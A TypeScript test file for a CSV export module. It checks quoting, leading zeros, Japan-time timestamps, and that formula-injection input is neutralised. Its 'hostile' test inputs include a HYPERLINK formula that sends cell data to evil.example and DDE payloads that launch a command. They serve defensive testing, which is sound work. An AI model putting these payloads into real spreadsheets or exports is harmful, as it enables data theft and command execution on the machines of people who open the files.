import { parse } from 'csv-parse/sync';
import { csvCode, isoInTimeZone, neutraliseCsvText, writeCsv } from './csv';

/** The fields as a CSV reader (and Excel) sees them, after RFC 4180 unquoting. */
function read(csv: string): string[][] {
  const rows: string[][] = parse(csv.slice(1), { relaxColumnCount: true, skipEmptyLines: false });
  return rows;
}

describe('writeCsv', () => {
  it('writes UTF-8 text with a BOM, CRLF after every row and RFC 4180 quoting', () => {
    const sut = writeCsv([['氏名', 'a,b', 'say "hi"', 'two\nlines'], [], ['x']]);
    expect(sut.startsWith('\uFEFF')).toBe(true);
    expect(sut.slice(1)).toBe('氏名,"a,b","say ""hi""","two\nlines"\r\n\r\nx\r\n');
    expect(read(sut)).toEqual([['氏名', 'a,b', 'say "hi"', 'two\nlines'], [''], ['x']]);
  });

  it('neutralises names, addresses and phones that start like a formula', () => {
    const hostile = [
      '=HYPERLINK("https://evil.example/?"&A1,"click")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
    ];
    const [row] = read(writeCsv([hostile]));
    expect(row).toEqual(hostile.map((h) => `'${h}`));
    for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('neutralises hostile text given as a code too: it never reaches a formula', () => {
    const [row] = read(
      writeCsv([[csvCode('=1+1"&HYPERLINK("x")'), csvCode('-1\n'), csvCode('1'.repeat(256))]]),
    );
    expect(row).toEqual([`'=1+1"&HYPERLINK("x")`, `'-1\n`, '1'.repeat(256)]);
  });

  it('keeps district codes, resident numbers and phones as text with their leading zeros', () => {
    const [row] = read(
      writeCsv([
        [csvCode('0123'), csvCode('322067'), csvCode('0854-23-1234'), csvCode('+81 90'), csvCode('R00120')],
      ]),
    );
    // Excel reads ="0123" as the text 0123 (a bare 0123 would become the number 123)
    expect(row).toEqual(['="0123"', '="322067"', '="0854-23-1234"', "'+81 90", '="R00120"']);
    expect(read(writeCsv([[csvCode(null), csvCode(''), null, undefined]]))).toEqual([['', '', '', '']]);
  });

  it("writes times in the municipality's zone (JST, +09:00), not UTC", () => {
    const [row] = read(writeCsv([[new Date('2026-09-01T00:30:15.999Z'), new Date('2026-12-31T15:00:00Z')]]));
    expect(row).toEqual(['2026-09-01T09:30:15+09:00', '2027-01-01T00:00:00+09:00']);
  });

  it('writes numbers as numbers: a negative count is ours, not a formula', () => {
    expect(read(writeCsv([[0, -1.5, 88.6, Number.NaN, true]]))).toEqual([['0', '-1.5', '88.6', '', 'true']]);
  });
});

describe(isoInTimeZone.name, () => {
  it('gives the offset of the zone asked for', () => {
    const at = new Date('2026-07-01T12:00:00Z');
    expect(isoInTimeZone(at, 'Asia/Tokyo')).toBe('2026-07-01T21:00:00+09:00');
    expect(isoInTimeZone(at, 'UTC')).toBe('2026-07-01T12:00:00+00:00');
    expect(isoInTimeZone(at, 'America/New_York')).toBe('2026-07-01T08:00:00-04:00');
  });
});

describe(neutraliseCsvText.name, () => {
  it('leaves ordinary text alone', () => {
    expect(neutraliseCsvText('山田 太郎')).toBe('山田 太郎');
    expect(neutraliseCsvText('0854-23-1234')).toBe('0854-23-1234');
    expect(neutraliseCsvText('a=b')).toBe('a=b');
  });
});
